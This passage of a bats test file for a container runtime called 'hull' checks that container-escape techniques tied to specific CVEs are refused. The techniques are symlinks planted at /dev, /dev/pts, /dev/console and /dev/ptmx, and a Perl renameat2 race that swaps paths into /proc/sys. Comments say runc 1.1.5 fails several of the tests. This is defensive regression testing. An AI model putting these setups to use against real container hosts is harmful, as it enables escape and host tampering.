	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -eq 0 ]
	[ "$output" = "kept
end" ]
}

@test "22, 31133: a race swapping symlinks into /proc and at /dev/null writes nothing through them" {
	# runc 1.1.5 fails: some runs mask /etc/masked with /leak.
	need_cmd perl
	[ "$(uname -m)" = x86_64 ] || skip "the swapper uses renameat2 by its x86_64 number"
	# /mnt/x: alternately a directory and a symlink to /proc/sys
	mkdir -p "$ROOTFS/mnt/x" "$ROOTFS/fake-net"
	ln -s /proc/sys "$ROOTFS/mnt/x-link"
	ln -s /tmp "$ROOTFS/fake-net/ipv4"
	: >"$ROOTFS/tmp/ip_forward"
	add_mount "{\"destination\": \"/mnt/x/net\", \"type\": \"bind\", \"source\": \"$ROOTFS/fake-net\", \"options\": [\"bind\"]}"
	set_cfg '.linux.sysctl = {"net.ipv4.ip_forward": "1"}'
	# /dev/null: alternately the null device and a symlink to /leak
	mkdir "$BUNDLE/fake-dev"
	mknod "$BUNDLE/fake-dev/null" c 1 3
	ln -s /leak "$BUNDLE/fake-dev/null-link"
	echo leaked >"$ROOTFS/leak"
	echo secret >"$ROOTFS/etc/masked"
	set_cfg '.mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
		--arg d "$BUNDLE/fake-dev"
	set_cfg '.linux.maskedPaths = ["/etc/masked"]'
	set_sh 'cat /etc/masked; echo end'
	perl -e '
		my $stop = shift; my $n = 0; my $end = time + 60;
		while (!-e $stop && time < $end) {
			$n++ if syscall(316, -100, $ARGV[0], -100, $ARGV[1], 2) == 0;
			syscall(316, -100, $ARGV[2], -100, $ARGV[3], 2);
		}
		open(my $f, ">", "$stop.count"); print $f "$n\n";' \
		"$HULL_TEST_DIR/stop-swapper" "$ROOTFS/mnt/x" "$ROOTFS/mnt/x-link" \
		"$BUNDLE/fake-dev/null" "$BUNDLE/fake-dev/null-link" 3>&- &
	HULL_BG_PIDS+=($!)
	swapper=$!
	ok=0 n=0 end=$((SECONDS + 40))
	while [ $n -lt 300 ] && [ $SECONDS -lt $end ]; do
		n=$((n + 1))
		if HULL_TEST_MARK="$HULL_TEST_DIR" timeout -k 1 10 "$HULL" --root "$HULL_ROOT" run -b "$BUNDLE" "$CID-$n" \
			>>"$HULL_TEST_DIR/race.out" 2>>"$HULL_TEST_DIR/race.err" </dev/null 3>&-; then
			ok=$((ok + 1))
		fi
		hull delete -f "$CID-$n" >/dev/null 2>&1 || true
	done
	touch "$HULL_TEST_DIR/stop-swapper"
	wait "$swapper"
	echo "swaps: $(cat "$HULL_TEST_DIR/stop-swapper.count"), runs: $n, succeeded: $ok"
	sort "$HULL_TEST_DIR/race.err" | sed 's/hit[^ ]*//' | uniq -c | sort -rn | head -5
	[ "$(cat "$HULL_TEST_DIR/stop-swapper.count")" -gt 100 ]
	refute grep -q leaked "$HULL_TEST_DIR/race.out"
	[ ! -s "$ROOTFS/tmp/ip_forward" ]
	[ -z "$(hull list -q)" ]
}

# ---------------------------------------- /dev and the console (issue 22)
# CVE-2026-41579, CVE-2026-47766: /dev set up by path through symlinks the
# image planted; CVE-2025-52565: the console bound onto a redirected target.
# The targets are files and directories of the container's own rootfs.

@test "41579: an image's /dev that is a symlink is refused, nothing made where it points" {
	# runc 1.1.5 fails this test: it follows the symlink and stops only at its
	# ptmx step, with another error.  The build before this test had the
	# device nodes made in /victim.
	set_cfg '.mounts |= map(select(.destination | startswith("/dev") | not))'
	rm -rf "$ROOTFS/dev"
	mkdir "$ROOTFS/victim"
	ln -s /victim "$ROOTFS/dev"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "root.path: /dev of the container is a symlink"
	[ -z "$(ls -A "$ROOTFS/victim")" ]
	assert_nothing_left
}

@test "41579: a /dev tmpfs is not mounted through an image's /dev symlink" {
	# runc 1.1.5 fails this test: it mounts the tmpfs through the symlink and
	# stops later at its ptmx step; so did the build before this test.
	rm -rf "$ROOTFS/dev"
	mkdir "$ROOTFS/victim"
	echo mine >"$ROOTFS/victim/file"
	ln -s /victim "$ROOTFS/dev"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "mounts[1].destination: /dev: a symlink in the rootfs on the way"
	[ "$(ls -A "$ROOTFS/victim")" = file ]
	assert_nothing_left
}

@test "47766: mounts and devices below /dev follow no symlink the image planted" {
	# runc 1.1.5 fails: devpts is mounted on /victim and the run succeeds; the
	# build before this test also made the device in /victim2.
	set_cfg '.mounts |= map(select(.destination == "/dev" or .destination == "/dev/shm" or .destination == "/dev/mqueue" | not))'
	set_cfg '.mounts += [{destination: "/dev/pts", type: "devpts", source: "devpts", options: ["nosuid", "noexec", "newinstance", "ptmxmode=0666"]}]'
	rm -rf "$ROOTFS/dev"
	mkdir "$ROOTFS/dev" "$ROOTFS/victim" "$ROOTFS/victim2"
	ln -s /victim "$ROOTFS/dev/pts"
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "/dev/pts: a symlink in the rootfs on the way"
	[ -z "$(ls -A "$ROOTFS/victim")" ]
	assert_nothing_left

	# a device in a subdirectory of /dev planted as a symlink
	set_cfg '.mounts |= map(select(.destination != "/dev/pts"))'
	set_cfg '.linux.devices = [{"path": "/dev/net/tun", "type": "c", "major": 1, "minor": 3, "fileMode": 438}]'
	rm "$ROOTFS/dev/pts"
	ln -s /victim2 "$ROOTFS/dev/net"
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "device /dev/net/tun: a symlink in the rootfs on the way"
	[ -z "$(ls -A "$ROOTFS/victim2")" ]
	assert_nothing_left
}

@test "41579: linux.devices are not made in a /dev bound from elsewhere (its source is not touched)" {
	# runc 1.1.5 passes (it skips devices for a bound /dev, as hull now does);
	# the build before this test replaced the bind source's null.
	mkdir "$BUNDLE/shared-dev"
	mknod -m 0666 "$BUNDLE/shared-dev/null" c 1 3
	local before
	before="$(stat -c %i "$BUNDLE/shared-dev/null")"
	set_cfg '.mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
		--arg d "$BUNDLE/shared-dev"
	set_cfg '.mounts |= map(select(.destination | startswith("/dev/") | not))'
	set_cfg '.linux.devices = [{"path": "/dev/null", "type": "c", "major": 1, "minor": 3, "fileMode": 438},
		{"path": "/dev/mynull", "type": "c", "major": 1, "minor": 3, "fileMode": 438}]'
	set_sh 'echo ran'
	hrun run -b "$BUNDLE" "$CID"
	[ "$status" -eq 0 ]
	[ "$output" = ran ]
	[ "$(stat -c %i "$BUNDLE/shared-dev/null")" = "$before" ]
	[ ! -e "$BUNDLE/shared-dev/mynull" ]
	assert_nothing_left
}

@test "52565: the console is not bound onto an image's /dev/console symlink" {
	# runc 1.1.5 fails: the pty is bound over /etc/victim and the run succeeds.
	# (hull refused this before too, after pivot_root; now the target is
	# opened through the fd of /dev before it.)
	start_recvtty con
	set_cfg '.mounts |= map(select(.destination == "/dev" or .destination == "/dev/shm" or .destination == "/dev/mqueue" | not))
		| .process.terminal = true'
	rm -rf "$ROOTFS/dev"
	mkdir "$ROOTFS/dev"
	echo mine >"$ROOTFS/etc/victim"
	ln -s /etc/victim "$ROOTFS/dev/console"
	set_sh 'stat -c %F /etc/victim'
	hrun run -d --console-socket "$RECVTTY_SOCK" -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "process.terminal: /dev/console of the container is a symlink"
	[ "$(cat "$ROOTFS/etc/victim")" = mine ]
	assert_nothing_left
}

@test "52565: a /dev/ptmx that is not the multiplexer is refused, one that leaves /dev too" {
	# runc 1.1.5 fails: it opens the planted file as the pty master and
	# stops only at the ioctl ("inappropriate ioctl for device").
	start_recvtty con
	mkdir "$BUNDLE/fake-dev"
	echo mine >"$BUNDLE/fake-dev/ptmx"
	: >"$BUNDLE/fake-dev/null"
	set_cfg '.mounts |= map(if .destination == "/dev" then {destination: "/dev", type: "bind", source: $d, options: ["rbind"]} else . end)' \
		--arg d "$BUNDLE/fake-dev"
	set_cfg '.mounts |= map(select(.destination | startswith("/dev/") | not)) | .process.terminal = true'
	set_sh 'echo ran'
	hrun run -d --console-socket "$RECVTTY_SOCK" -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "process.terminal: /dev/ptmx of the container is not the pty multiplexer (5:2)"
	[ "$(cat "$BUNDLE/fake-dev/ptmx")" = mine ]
	assert_nothing_left

	rm "$BUNDLE/fake-dev/ptmx"
	ln -s ../etc/victim "$BUNDLE/fake-dev/ptmx"
	echo mine >"$ROOTFS/etc/victim"
	hrun run -d --console-socket "$RECVTTY_SOCK" -b "$BUNDLE" "$CID"
	[ "$status" -ne 0 ]
	assert_one_line_error "process.terminal: opening /dev/ptmx in the container"
	[ "$(cat "$ROOTFS/etc/victim")" = mine ]
	assert_nothing_left
}

@test "52565: exec -t through a /dev/ptmx the container swapped for a symlink is refused" {
	# runc 1.1.5 fails: exec -t opens /etc/victim (a file the container chose)
	# with the runtime's privileges, and stops only at the ioctl.
	start_recvtty con
	echo mine >"$ROOTFS/etc/victim"
	set_sh 'rm /dev/ptmx; ln -s /etc/victim /dev/ptmx; touch /tmp/swapped; sleep 60'
	hrun run -d -b "$BUNDLE" "$CID"
	[ "$status" -eq 0 ]
	retry 100 0.05 test -e "$ROOTFS/tmp/swapped"
	hrun exec -t -d --console-socket "$RECVTTY_SOCK" "$CID" echo hi
	[ "$status" -ne 0 ]
	assert_one_line_error "process.terminal: opening /dev/ptmx in the container"
	[ "$(cat "$ROOTFS/etc/victim")" = mine ]
	hrun delete -f "$CID"
	assert_nothing_left
}
